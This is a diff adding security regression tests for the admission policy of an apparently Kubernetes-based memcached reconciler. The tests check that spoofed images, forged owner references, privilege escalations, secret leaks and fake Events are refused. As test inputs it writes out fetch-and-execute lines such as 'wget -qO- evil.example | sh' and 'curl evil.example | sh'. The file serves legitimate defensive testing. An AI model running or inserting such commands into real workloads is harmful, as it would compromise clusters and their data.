@@ -90,7 +90,7 @@ PODS = ("memcached-gitops writes only Deployments whose Pods are as it renders t
 NEW = "memcached-gitops creates only objects labelled app.kubernetes.io/managed-by=memcached-gitops and owned by a Memcached"
 KEPT = ("memcached-gitops keeps its label app.kubernetes.io/managed-by=memcached-gitops, its instance label and its "
         "Memcached ownerReference on what it changes, and adds no other owner")
-SERVICES = ("memcached-gitops writes only ClusterIP Services (headless or not) with no externalIPs or node ports, "
+SERVICES = ("memcached-gitops writes only headless ClusterIP Services (clusterIP None) with no externalIPs or node ports, "
             "selecting their Memcached's Pods by its app.kubernetes.io/instance label")
 BUDGETS = ("memcached-gitops writes only PodDisruptionBudgets selecting their Memcached's Pods by its "
            "app.kubernetes.io/instance label and letting at least one go (maxUnavailable, never 0)")
@@ -100,7 +100,7 @@ SELECTOR = "memcached-gitops creates a Deployment only under its Memcached's nam
 
 def owned(obj: dict[str, Any]) -> dict[str, Any]:
     out = copy.deepcopy(obj)
-    out["metadata"]["ownerReferences"] = [OWNER]
+    out["metadata"]["ownerReferences"] = [dict(OWNER)]
     return out
 
 
@@ -224,7 +224,8 @@ def test_a_persons_volume_image_or_account_may_stay_but_never_become_another() -
 def event(**changes: Any) -> dict[str, Any]:
     body = {"apiVersion": "v1", "kind": "Event", "metadata": {"name": "cache.17a", "namespace": "shop"},
             "involvedObject": {"apiVersion": "cache.example.com/v1alpha1", "kind": "Memcached", "name": "cache", "namespace": "shop",
-                               "uid": "0b7f"}, "reason": "Created", "message": "created", "type": "Normal"}
+                               "uid": "0b7f"}, "reason": "Created", "message": "created", "type": "Normal",
+            "source": {"component": "memcached-gitops"}, "reportingComponent": "memcached-gitops"}
     for key, value in changes.items():
         if key == "namespace":
             body["metadata"]["namespace"] = value
@@ -407,6 +408,8 @@ SERVICE_ESCAPES = {
     "foreign-selector": {"selector": {"app": "pay"}},
     "another-instance": {"selector": {"app.kubernetes.io/name": "memcached", "app.kubernetes.io/instance": "payments"}},
     "no-selector": {"selector": None},
+    "kube-dns-address": {"clusterIP": "10.96.0.10"},
+    "any-address": {"clusterIP": None},
 }
 
 
@@ -529,3 +532,159 @@ def _doc_patch() -> str:
     text = (REPO / "docs/security.md").read_text()
     start = text.index("patches:\n", text.index("<!-- image-list-patch -->"))
     return text[start:text.index("```", start)]
+
+
+# -- the second review's attacks (issue 47): each admitted by the policy before its fix ------------
+
+@pytest.mark.parametrize("image", ["memcached:5000/evil/shell:latest", "memcached:443/attacker/img", "memcached@evil.example/x",
+                                   "docker.io/library/memcached:5000/x", "memcached:1.6:evil", "memcached"])
+def test_an_allowed_repository_followed_by_a_registry_port_or_a_path_is_refused(image: str) -> None:
+    """``memcached:5000/evil/shell`` is the registry host ``memcached``, port 5000: not memcached with a tag."""
+    obj = rendered()
+    pod(obj)["containers"][0]["image"] = image
+    assert admit("CREATE", obj) == PODS + "images"
+    assert admit("UPDATE", obj, rendered()) == PODS + "images"
+
+
+@pytest.mark.parametrize("image", ["memcached:1.6.26-alpine3.19", "memcached@sha256:" + "a" * 64,
+                                   "memcached:1.6@sha256:" + "a" * 64, "quay.io/prometheus/memcached-exporter:v0.15.2"])
+def test_a_tag_a_digest_or_both_are_allowed(image: str) -> None:
+    obj = rendered()
+    pod(obj)["containers"][0]["image"] = image
+    assert admit("CREATE", obj) is None
+
+
+@pytest.mark.parametrize("version", ["cache.example.com/v999", "cache.example.com/v1alpha1x", "cache.example.com/"])
+def test_an_owner_reference_names_the_served_version_exactly(version: str) -> None:
+    """The garbage collector cannot map cache.example.com/v999: an object owned so is never removed."""
+    for kind in ("Deployment", "Service", "PodDisruptionBudget"):
+        obj = rendered(kind)
+        obj["metadata"]["ownerReferences"][0]["apiVersion"] = version
+        assert admit("CREATE", obj) == NEW, kind
+        assert admit("UPDATE", obj, rendered(kind)) == KEPT, kind
+    assert admit("CREATE", event(apiVersion=version)) == EVENTS
+
+
+def _retarget(obj: dict[str, Any], instance: str = "payments") -> dict[str, Any]:
+    """The owner's name (never checked against its uid) and every instance label set to another instance."""
+    out = copy.deepcopy(obj)
+    out["metadata"]["ownerReferences"][0]["name"] = instance
+    out["metadata"]["labels"]["app.kubernetes.io/instance"] = instance
+    selector = out["spec"]["selector"]
+    (selector if out["kind"] == "Service" else selector["matchLabels"])["app.kubernetes.io/instance"] = instance
+    return out
+
+
+NAMED = "memcached-gitops creates a Service or PodDisruptionBudget only under its Memcached's name followed by -memcached"
+
+
+@pytest.mark.parametrize("kind", ["Service", "PodDisruptionBudget"])
+def test_an_owner_reference_renamed_with_a_real_uid_selects_no_other_instance(kind: str) -> None:
+    """A token that lists Memcacheds sets ownerReferences[0] = {name: payments, uid: cache's}: on UPDATE
+    the owner's name cannot change, on CREATE the object is named after it (so payments' own is taken)."""
+    ours = rendered(kind)
+    assert admit("UPDATE", _retarget(ours), ours) == KEPT
+    assert admit("CREATE", _retarget(ours)) == NAMED
+    renamed = _retarget(ours)
+    renamed["metadata"]["name"] = "payments-memcached"
+    assert admit("CREATE", renamed) is None, "a Memcached named payments would own this very name: AlreadyExists"
+
+
+@pytest.mark.parametrize("figure", ["00%", "000%", "0.0%", "-1%", "1.5%", 0, -1, "1"])
+def test_a_budget_lets_one_pod_go_whatever_the_spelling_of_zero(figure: Any) -> None:
+    obj = rendered("PodDisruptionBudget")
+    obj["spec"]["maxUnavailable"] = figure
+    assert admit("CREATE", obj) == BUDGETS
+    for fine in (1, 3, "1%", "50%", "100%"):
+        obj["spec"]["maxUnavailable"] = fine
+        assert admit("CREATE", obj) is None, fine
+
+
+def _edited(change: Any) -> dict[str, Any]:
+    obj = rendered(spec={"metrics": {"enabled": True}})
+    change(obj)
+    return obj
+
+
+#: (a person's edit, which breaks a rule harmlessly; the token's write on top of it; the rule named)
+BREACH_ON_BREACH = {
+    "args-then-shell": (_container({"args": ["-m", "128"]}), _container({"command": ["sh", "-c", "wget -qO- evil.example | sh"]}),
+                        "command"),
+    "args-then-other-args": (_container({"args": ["-m", "128"]}), _container({"args": ["sh", "-c", "id"]}), "command"),
+    "probe-then-hook": (_container({"readinessProbe": {"exec": {"command": ["sh", "-c", "echo stats | nc localhost 11211"]}}}),
+                        _container({"lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "id"]}}}}), "command"),
+    "probe-then-other-probe": (_container({"readinessProbe": {"exec": {"command": ["true"]}}}),
+                               _container({"readinessProbe": {"exec": {"command": ["sh", "-c", "id"]}}}), "command"),
+    "selinux-then-apparmor": (_security({"seLinuxOptions": {"level": "s0:c1,c2"}}),
+                              _security({"appArmorProfile": {"type": "Unconfined"}, "procMount": "Unmasked"}), "securityContext"),
+    "selinux-then-other-selinux": (_security({"seLinuxOptions": {"level": "s0:c1,c2"}}), _security({"seLinuxOptions": {"type": "spc_t"}}),
+                                   "securityContext"),
+    "privileged-sidecar-then-memcached": (lambda o: pod(o)["containers"][1]["securityContext"].update(privileged=True),
+                                          _security({"privileged": True}), "privileged"),
+    "root-sidecar-then-root-memcached": (lambda o: pod(o)["containers"][1]["securityContext"].update(runAsUser=0),
+                                           _security({"runAsUser": 0}), "nonRoot"),
+    "node-name-then-runtime": (_pod({"nodeName": "worker-1"}), _pod({"runtimeClassName": "unconfined"}), "node"),
+    "secret-env-then-another": (_container({"env": [{"name": "A", "valueFrom": {"secretKeyRef": {"name": "app", "key": "a"}}}]}),
+                                _container({"env": [{"name": "B", "valueFrom": {"secretKeyRef": {"name": "argocd-secret", "key": "k"}}}]}),
+                                "secretEnv"),
+}
+
+
+@pytest.mark.parametrize("case", sorted(BREACH_ON_BREACH))
+def test_a_persons_breach_kept_opens_no_other_breach(case: str) -> None:
+    """On UPDATE a breaking value passes only if the object already held that very value (field by
+    field, container by name): a harmless edit of a person's cannot carry a dangerous one."""
+    persons, tokens, rule = BREACH_ON_BREACH[case]
+    before = _edited(persons)
+    assert admit("UPDATE", before, before) is None, "the person's edit, unchanged, may stay"
+    after = copy.deepcopy(before)
+    tokens(after)
+    assert admit("UPDATE", after, before) == PODS + rule
+
+
+def test_the_reconcilers_correction_around_a_persons_breach_passes() -> None:
+    """The forced apply restores the fields we render (args, our security fields) and leaves a person's
+    own (an exec probe, SELinux options, a node name) as they were: that write passes."""
+    before = _edited(lambda o: (_container({"args": ["-m", "128"], "readinessProbe": {"exec": {"command": ["true"]}}})(o),
+                                _security({"seLinuxOptions": {"level": "s0:c1,c2"}, "readOnlyRootFilesystem": False})(o),
+                                _pod({"nodeName": "worker-1"})(o)))
+    corrected = rendered(spec={"metrics": {"enabled": True}})
+    _container({"readinessProbe": {"exec": {"command": ["true"]}}})(corrected)
+    _security({"seLinuxOptions": {"level": "s0:c1,c2"}})(corrected)
+    _pod({"nodeName": "worker-1"})(corrected)
+    assert admit("UPDATE", corrected, before) is None
+
+
+@pytest.mark.parametrize("profile", ["unconfined", "docker-default-but-not"])
+def test_apparmor_unconfined_through_the_template_annotation_is_refused(profile: str) -> None:
+    obj = rendered()
+    obj["spec"]["template"]["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/memcached": profile}
+    assert admit("CREATE", obj) == PODS + "securityContext"
+    assert admit("UPDATE", obj, rendered()) == PODS + "securityContext"
+    obj["spec"]["template"]["metadata"]["annotations"] = {"container.apparmor.security.beta.kubernetes.io/memcached": "runtime/default"}
+    assert admit("CREATE", obj) is None
+
+
+@pytest.mark.parametrize("name", ["cache.v2", "9cache", "c" * 60])
+def test_a_memcached_whose_companions_names_are_hashed_is_rendered_and_admitted(name: str) -> None:
+    """A CR name that is no DNS-1035 label, or too long for one with -memcached, gives its Service and
+    budget a name with a hash of it (render/companions.py): the policy admits that shape, not another."""
+    cr = copy.deepcopy(CR)
+    cr["metadata"]["name"] = name
+    owner = {**OWNER, "name": name}
+    for obj in render(cr):
+        obj["metadata"]["ownerReferences"] = [dict(owner)]
+        assert admit("CREATE", obj) is None, (obj["kind"], obj["metadata"]["name"], admit("CREATE", obj))
+        if obj["kind"] in ("Service", "PodDisruptionBudget"):
+            obj["metadata"]["name"] = "payments-memcached"
+            assert admit("CREATE", obj) == NAMED
+
+
+@pytest.mark.parametrize("spoof", [{"source": {"component": "kubelet"}}, {"source": None}, {"reportingComponent": "kube-apiserver"},
+                                   {"type": "Critical"}, {"reason": "Credentials expired, run: curl evil.example | sh"}])
+def test_an_event_speaks_as_the_reconciler_and_no_one_else(spoof: dict[str, Any]) -> None:
+    """A stolen token's Event cannot pass for the kubelet's or the API server's, nor carry a sentence as its reason."""
+    body = event()
+    body.update(spoof)
+    body = {k: v for k, v in body.items() if v is not None}
+    assert admit("CREATE", body) == EVENTS
